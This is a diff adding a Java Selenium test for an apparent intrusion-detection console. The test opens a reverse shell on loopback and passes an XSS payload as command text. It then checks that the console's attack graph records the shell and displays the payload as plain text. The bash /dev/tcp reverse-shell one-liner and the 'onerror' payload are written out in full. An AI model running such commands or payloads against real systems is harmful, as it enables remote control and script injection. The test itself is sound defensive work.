@@ -1,0 +1,105 @@
+package dev.vigil.cli;
+
+import org.junit.jupiter.api.Test;
+import org.openqa.selenium.By;
+import org.openqa.selenium.JavascriptExecutor;
+import org.openqa.selenium.OutputType;
+import org.openqa.selenium.TakesScreenshot;
+import org.openqa.selenium.WebDriver;
+import org.openqa.selenium.WebElement;
+import org.openqa.selenium.chrome.ChromeDriver;
+import org.openqa.selenium.chrome.ChromeDriverService;
+import org.openqa.selenium.chrome.ChromeOptions;
+import org.openqa.selenium.support.ui.WebDriverWait;
+
+import java.io.File;
+import java.io.OutputStream;
+import java.net.InetAddress;
+import java.net.ServerSocket;
+import java.net.Socket;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.nio.file.StandardCopyOption;
+import java.time.Duration;
+import java.util.List;
+import java.util.concurrent.TimeUnit;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+import static org.junit.jupiter.api.Assertions.fail;
+
+/**
+ * The console in Debian's Chromium, headless, driven by Selenium: log in with the token, open the
+ * incident of a reverse shell made on loopback, find in its attack graph the listener's address,
+ * the shell's command line and the command run inside it, and see hostile argv shown as text.
+ * A screenshot is saved as target/console-attack-graph.png.
+ */
+class ConsoleBrowserTest {
+    private static final String HOSTILE = "<img src=x onerror=alert(1)>";
+
+    @Test
+    void anIncidentsAttackGraphInARealBrowser() throws Exception {
+        if (!Files.isExecutable(Path.of("/usr/bin/chromium")) || !Files.isExecutable(Path.of("/usr/bin/chromedriver"))) {
+            if ("true".equals(System.getenv("CI"))) {
+                fail("Chromium and chromedriver are needed (apt-get install chromium chromium-driver; ./vigil test installs them)");
+            }
+            org.junit.jupiter.api.Assumptions.abort("no /usr/bin/chromium or /usr/bin/chromedriver");
+        }
+        Path data = Files.createTempDirectory("vigil-browser");
+        try (AgentProcess agent = AgentProcess.start("--data", data.toString(), "--listen", "127.0.0.1:0");
+             ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
+            Matcher m = Pattern.compile("console (http://\\S+/) token ([0-9a-f]{64})").matcher(String.join("\n", agent.stderr));
+            assertTrue(m.find(), String.valueOf(agent.stderr));
+            String base = m.group(1), token = m.group(2);
+            int port = listener.getLocalPort();
+            Process bash = new ProcessBuilder("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/" + port + "; exec sh -i <&3 >&3 2>&3").start();
+            try (Socket s = listener.accept()) {
+                OutputStream out = s.getOutputStream();
+                out.write(("uname -a\nsh -c 'echo \"" + HOSTILE + "\"'\nexit\n").getBytes(StandardCharsets.UTF_8));
+                out.flush();
+                s.getInputStream().readAllBytes();
+            }
+            assertTrue(bash.waitFor(10, TimeUnit.SECONDS));
+            long shell = bash.pid();
+            agent.await("Reverse shell", a -> a.get("events").get(0).get("pid").asLong() == shell);
+            Thread.sleep(1500); // the store commits every 200 ms
+
+            ChromeOptions options = new ChromeOptions();
+            options.setBinary("/usr/bin/chromium");
+            options.addArguments("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--window-size=1400,1000");
+            ChromeDriverService service = new ChromeDriverService.Builder().usingDriverExecutable(new File("/usr/bin/chromedriver")).build();
+            WebDriver browser = new ChromeDriver(service, options);
+            try {
+                WebDriverWait wait = new WebDriverWait(browser, Duration.ofSeconds(20));
+                browser.get(base);
+                browser.findElement(By.id("token")).sendKeys(token);
+                browser.findElement(By.cssSelector("#login-form button")).click();
+                WebElement row = wait.until(d -> d.findElements(By.cssSelector("#incident-rows tr")).stream()
+                        .filter(r -> r.getText().contains("Reverse shell") || r.getText().contains("shell")).findFirst().orElse(null));
+                row.click();
+                wait.until(d -> ((JavascriptExecutor) d).executeScript("return window.vigilGraph && window.vigilGraph.nodes().length > 0"));
+                JavascriptExecutor js = (JavascriptExecutor) browser;
+                @SuppressWarnings("unchecked")
+                List<String> labels = (List<String>) js.executeScript("return window.vigilGraph.nodes().map(n => n.data('label'))");
+                String all = String.join("\n", labels);
+                assertTrue(all.contains("127.0.0.1:" + port), "the listener's address is in the graph: " + all);
+                assertTrue(all.contains("sh -i"), "the shell's command line is in the graph: " + all);
+                assertTrue(all.contains("uname -a"), "the command run inside the shell is in the graph: " + all);
+                // the hostile argv, selected in the graph, is shown in the details as text: no element is made of it
+                js.executeScript("const n = window.vigilGraph.nodes().filter(n => (n.data('label') || '').includes('onerror'))[0];"
+                        + " if (n) { n.emit('tap'); }");
+                wait.until(d -> d.findElement(By.id("node-json")).getText().contains(HOSTILE));
+                assertEquals(0L, js.executeScript("return document.querySelectorAll('img').length"), "no <img> was made from event text");
+                Path shot = ((TakesScreenshot) browser).getScreenshotAs(OutputType.FILE).toPath();
+                Files.createDirectories(Path.of("target"));
+                Files.copy(shot, Path.of("target/console-attack-graph.png"), StandardCopyOption.REPLACE_EXISTING);
+            } finally {
+                browser.quit();
+            }
+            assertEquals(0, agent.stop());
+        }
+    }
+}
